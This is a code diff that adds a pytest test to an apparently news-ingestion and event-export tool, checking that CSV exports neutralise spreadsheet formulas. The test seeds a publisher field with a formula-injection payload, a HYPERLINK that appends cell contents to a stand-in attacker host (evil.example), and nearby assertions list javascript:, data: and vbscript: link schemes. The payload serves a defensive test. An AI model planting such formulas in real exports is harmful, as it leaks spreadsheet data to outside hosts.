@@ -219,3 +219,38 @@ def test_briefing_links_only_to_web_pages(tmp_path, url):
     for scheme in ("javascript:", "data:", "vbscript:"):
         assert f'href="{scheme}' not in page.lower() and f"]({scheme}" not in md.lower()
     assert "<script>" not in page and "<script>" not in md
+
+
+def test_csv_exports_do_not_carry_spreadsheet_formulas(tmp_path):
+    import csv as csvlib
+    import json as jsonlib
+    import subprocess
+    import sys
+
+    from flashpoint.ingest.reader import ReadOptions
+    from flashpoint.pipeline import ingest
+    from flashpoint.report.export import write_export
+    from flashpoint.store import Store
+    from flashpoint.store.queries import Filters
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    feed = tmp_path / "feed.jsonl"
+    feed.write_text(jsonlib.dumps({"url": "https://news.example.org/a", "publisher": hostile,
+                                   "published": "2025-03-12T08:00:00Z",
+                                   "text": "Russian artillery shelled a residential district of Kharkiv on Wednesday, "
+                                           "killing three civilians, the regional governor said."}) + "\n")
+    store = Store(str(tmp_path / "x.db"))
+    try:
+        ingest([str(feed)], store, ReadOptions(fetch_links=False))
+        out = tmp_path / "acled.csv"
+        with store.connect() as conn:
+            assert write_export(conn, Filters(), "acled-csv", out) >= 1
+    finally:
+        store.close()
+    rows = list(csvlib.DictReader(out.open()))
+    cells = [v for r in rows for v in r.values() if v]
+    assert not [v for v in cells if v[0] in "=+@"] and any(v.startswith("'=HYPERLINK") for v in cells)
+    assert rows[0]["fatalities"] == "3"  # numbers stay numbers
+    done = subprocess.run([sys.executable, "-m", "flashpoint.cli", "extract", str(feed), "-f", "csv", "-q"],
+                          capture_output=True, text=True, timeout=300)
+    assert not [v for r in csvlib.DictReader(done.stdout.splitlines()) for v in r.values() if v and v[0] in "=+@"]
